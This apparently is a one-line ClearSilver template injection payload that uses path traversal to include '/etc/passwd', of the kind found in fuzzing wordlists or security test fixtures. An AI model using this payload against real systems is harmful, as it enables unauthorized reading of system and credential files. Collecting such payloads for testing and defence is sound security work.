<?cs include:"../../etc/passwd" ?>
